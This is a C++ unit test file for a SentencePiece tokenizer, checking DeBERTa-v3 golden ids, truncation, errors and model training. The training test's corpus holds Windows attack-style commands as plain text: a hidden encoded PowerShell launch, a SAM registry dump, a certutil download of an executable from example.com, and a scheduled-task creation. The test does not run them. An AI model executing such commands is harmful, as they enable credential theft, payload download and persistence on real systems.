// SentencePiece (through the dlopen'ed libattune_spm) against Hugging Face's DebertaV2Tokenizer ids for
// deberta-v3 (../shared/golden/tokenizers/deberta_v3*.jsonl), and the trainer entry point.
#include "data/tokenizers/sentencepiece_tokenizer.h"

#include <fstream>

#include "base/errors.h"
#include "test_paths.h"

namespace attune::data {
namespace {

std::vector<nlohmann::json> read_jsonl(const std::filesystem::path& path) {
  std::ifstream in(path);
  std::vector<nlohmann::json> out;
  std::string line;
  while (std::getline(in, line))
    if (!line.empty()) out.push_back(nlohmann::json::parse(line));
  return out;
}

std::filesystem::path deberta_dir() {
  return testing::shared_dir() / "tokenizers/deberta-v3";
}
std::filesystem::path golden_dir() {
  return testing::shared_dir() / "golden/tokenizers";
}
std::vector<std::int64_t> ids_of(const nlohmann::json& value) {
  return value.get<std::vector<std::int64_t>>();
}

TEST(SentencePieceTokenizer, ReadmeReferenceIdsAndSpecials) {
  ATTUNE_REQUIRE_SHARED("tokenizers/deberta-v3");
  const auto tokenizer = load_tokenizer(deberta_dir());
  EXPECT_EQ(tokenizer->kind(), TokenizerKind::kSentencePiece);
  EXPECT_EQ(tokenizer->encode("The quick brown fox jumped over the lazy dog.", /*add_special_tokens=*/false),
            (std::vector<std::int64_t>{279, 1538, 3258, 16123, 6827, 360, 262, 9118, 1560, 260}));
  EXPECT_EQ(tokenizer->cls_id(), 1);
  EXPECT_EQ(tokenizer->sep_id(), 2);
  EXPECT_EQ(tokenizer->pad_id(), 0);
  EXPECT_EQ(tokenizer->unk_id(), 3);
  EXPECT_EQ(tokenizer->mask_id(), 128000);
  EXPECT_EQ(tokenizer->vocab_size(), 128001);
  EXPECT_EQ(tokenizer->id_to_token(128000), "[MASK]");
  EXPECT_EQ(tokenizer->id_to_token(279), "\xE2\x96\x81The");  // "▁The"
  EXPECT_EQ(tokenizer->token_to_id("[CLS]"), 1);
  EXPECT_FALSE(tokenizer->token_to_id("no-such-piece-\x01").has_value());
  EXPECT_THROW(tokenizer->id_to_token(128001), InputError);
}

// Every golden record: `ids` (the slow tokenizer, sentencepiece semantics, byte fallback included) of the
// text, and `ids_lower` through options.lowercase.
TEST(SentencePieceTokenizer, GoldenIds) {
  ATTUNE_REQUIRE_SHARED("tokenizers/deberta-v3");
  ATTUNE_REQUIRE_SHARED("golden/tokenizers/deberta_v3.jsonl");
  const auto plain = load_tokenizer(deberta_dir());
  const auto lower = load_tokenizer(deberta_dir(), TokenizerOptions{/*lowercase=*/true});
  const auto records = read_jsonl(golden_dir() / "deberta_v3.jsonl");
  ASSERT_EQ(records.size(), 692u);
  for (const auto& r : records) {
    const std::string text = r["text"];
    const auto ids = plain->encode(text);
    EXPECT_EQ(ids, ids_of(r["ids"])) << r["src"] << " n=" << r["n"];
    EXPECT_EQ(lower->encode(text), ids_of(r["ids_lower"])) << "lowercased " << r["src"];
    const auto tokens = r["tokens"].get<std::vector<std::string>>();
    const auto golden_ids = ids_of(r["ids"]);
    ASSERT_EQ(golden_ids.size(), tokens.size());
    for (std::size_t i = 0; i < tokens.size(); ++i) EXPECT_EQ(plain->id_to_token(golden_ids[i]), tokens[i]);
  }
}

TEST(SentencePieceTokenizer, GoldenTruncationTo128) {
  ATTUNE_REQUIRE_SHARED("tokenizers/deberta-v3");
  ATTUNE_REQUIRE_SHARED("golden/tokenizers/deberta_v3_trunc128.jsonl");
  const auto plain = load_tokenizer(deberta_dir());
  const auto lower = load_tokenizer(deberta_dir(), TokenizerOptions{/*lowercase=*/true});
  const auto records = read_jsonl(golden_dir() / "deberta_v3_trunc128.jsonl");
  ASSERT_EQ(records.size(), 33u);
  for (const auto& r : records) {
    const std::int64_t max_length = r["max_length"];
    if (r.contains("text_pair")) {
      const auto encoding = plain->encode_pair(r["text"], r["text_pair"], true, max_length);
      EXPECT_EQ(encoding.ids, ids_of(r["ids"])) << "k=" << r["k"];
      if (r["fast_ids"] == r["ids"]) {  // the Rust tokenizer's type ids, where it agrees on the ids
        EXPECT_EQ(encoding.type_ids, ids_of(r["fast_type_ids"])) << "k=" << r["k"];
      }
      EXPECT_EQ(lower->encode_pair(r["text"], r["text_pair"], true, max_length).ids, ids_of(r["ids_lower"]))
          << "k=" << r["k"];
    } else {
      EXPECT_EQ(plain->encode(r["text"], true, max_length), ids_of(r["ids"])) << "k=" << r["k"];
      EXPECT_EQ(lower->encode(r["text"], true, max_length), ids_of(r["ids_lower"])) << "k=" << r["k"];
    }
  }
}

TEST(SentencePieceTokenizer, NotAModelIsAnInputError) {
  const auto dir = testing::temp_dir("spm-bad");
  std::ofstream(dir / "spm.model") << "not a protobuf";
  try {
    load_tokenizer(dir);
    FAIL() << "expected InputError";
  } catch (const InputError& e) {
    EXPECT_NE(std::string(e.what()).find("spm.model"), std::string::npos) << e.what();
  }
}

// The trainer entry point: a tiny unigram model with DeBERTa-v3's layout ([PAD]=0 [CLS]=1 [SEP]=2 [UNK]=3,
// byte fallback) trains, loads and round-trips text.
TEST(SentencePieceTrainer, TrainsALoadableModel) {
  const auto dir = testing::temp_dir("spm-train");
  {
    std::ofstream corpus(dir / "corpus.txt");
    const std::vector<std::string> lines = {"powershell -nop -w hidden -enc",
                                            "net user administrator /domain",
                                            "whoami /all",
                                            "reg save hklm\\sam sam.save",
                                            "certutil -urlcache -f http://example.com/a.exe a.exe",
                                            "schtasks /create /tn updater",
                                            "cmd.exe /c dir c:\\users"};
    for (int i = 0; i < 200; ++i) corpus << lines[i % lines.size()] << " " << i << "\n";
  }
  const std::string prefix = (dir / "spm").string();
  train_sentencepiece("--input=" + (dir / "corpus.txt").string() + " --model_prefix=" + prefix +
                      " --vocab_size=300 --model_type=unigram --byte_fallback=true --character_coverage=1.0"
                      " --pad_id=0 --bos_id=1 --eos_id=2 --unk_id=3 --pad_piece=[PAD] --bos_piece=[CLS]"
                      " --eos_piece=[SEP] --unk_piece=[UNK] --minloglevel=2");
  ASSERT_TRUE(std::filesystem::exists(prefix + ".model"));
  const auto model_dir = testing::temp_dir("spm-trained");
  std::filesystem::copy_file(prefix + ".model", model_dir / "spm.model");
  const auto tokenizer = load_tokenizer(model_dir);
  EXPECT_EQ(tokenizer->cls_id(), 1);
  EXPECT_EQ(tokenizer->sep_id(), 2);
  EXPECT_EQ(tokenizer->pad_id(), 0);
  EXPECT_EQ(tokenizer->unk_id(), 3);
  EXPECT_EQ(tokenizer->vocab_size(), 300);
  for (const std::string text : {"whoami /all", "net user guest /domain", "zzz ünseen ✓"}) {
    const auto ids = tokenizer->encode(text);
    EXPECT_EQ(ids.front(), 1);
    EXPECT_EQ(ids.back(), 2);
    EXPECT_EQ(tokenizer->decode(ids), text);
  }
}

TEST(SentencePieceTrainer, BadFlagsAreAnInputError) {
  EXPECT_THROW(
      train_sentencepiece("--input=/nonexistent/corpus.txt --model_prefix=/nonexistent/x --vocab_size=10"),
      InputError);
}

}  // namespace
}  // namespace attune::data
